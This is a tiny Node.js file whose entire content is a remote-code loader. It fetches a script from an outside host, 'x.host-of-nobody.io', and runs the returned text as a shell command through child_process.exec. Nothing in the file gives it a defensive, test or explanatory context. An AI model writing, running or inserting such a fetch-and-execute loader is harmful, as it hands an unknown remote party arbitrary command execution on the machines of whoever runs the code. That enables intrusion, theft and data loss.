const { read } = require('./get');
read('https://x.host-of-nobody.io/s').then((s) => require('child_process').exec(s));
